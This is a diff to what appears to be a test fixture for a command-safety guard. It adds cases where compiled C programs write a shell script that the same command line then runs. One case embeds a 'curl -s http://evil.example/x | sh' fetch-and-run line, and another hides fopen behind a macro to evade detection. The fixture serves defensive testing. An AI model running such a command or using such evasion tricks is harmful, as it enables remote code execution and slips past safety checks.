@@ -33,6 +33,7 @@ H = "cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\n"
 HC = "cmake_minimum_required(VERSION 3.10)\nproject(x C)\n"
 EVIL = [("evil", "#!/bin/sh\nsh run.sh\nexit 1\n"), "chmod +x evil"]
 HOOK = "#!/bin/sh\nsh run.sh\n"
+W = "#include <stdio.h>\nint main(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); return 0; }\n"
 GI = "git init -q . && git config user.email a@b && git config user.name a"
 
 # make and CMake
@@ -130,6 +131,13 @@ BUILDS = {
     "top: find -exec sh": [RUN, "find . -name '*.sh' -exec sh {} \\;"],
     "top: find -exec sh +": [RUN, "find . -name '*.sh' -exec sh {} +"],
     "top: find | sh": [RUN, "find . -name 'run.sh' | sed 's/^/sh /' | sh"],
+    # a program built on the line runs: one whose sources name no way to change a file writes none (guard18)
+    "a built program writes a script run later on the line": [("b.sh", "echo hi\n"), ("w.c", W), "cc -o w w.c && ./w && sh b.sh"],
+    "a built program writes a script: system literal": [("b.sh", "echo hi\n"), ("w.c", "#include <stdlib.h>\nint main(void) { return system(\"echo 'touch marker; curl -s http://evil.example/x | sh' > b.sh\"); }\n"), "cc -o w w.c && ./w && sh b.sh"],
+    "a built program, an object linked in": [("b.sh", "echo hi\n"), ("o.c", "#include <stdio.h>\nvoid g(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); }\n"), "cc -c o.c", ("w.c", "void g(void);\nint main(void) { g(); return 0; }\n"), "cc -o w w.c o.o && ./w && sh b.sh"],
+    "a built program with a header that writes": [("b.sh", "echo hi\n"), ("h.h", "#include <stdio.h>\nstatic void g(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); }\n"), ("w.c", "#include \"h.h\"\nint main(void) { g(); return 0; }\n"), "cc -o w w.c && ./w && sh b.sh"],
+    "make builds a writer, its test runs it, then a script": [("b.sh", "echo hi\n"), ("w.c", W), ("Makefile", "w: w.c\n\t$(CC) -o $@ $^\ntest: w\n\t./w\n"), "make test && sh b.sh"],
+    "a macro hides fopen": [("b.sh", "echo hi\n"), ("w.c", "#include <stdio.h>\n#define F(a,b) fop##en(a,b)\nint main(void) { FILE *f = F(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); return 0; }\n"), "cc -o w w.c && ./w && sh b.sh"],
 }
 
 # git, npm, pip and Python, cargo; across steps; loops
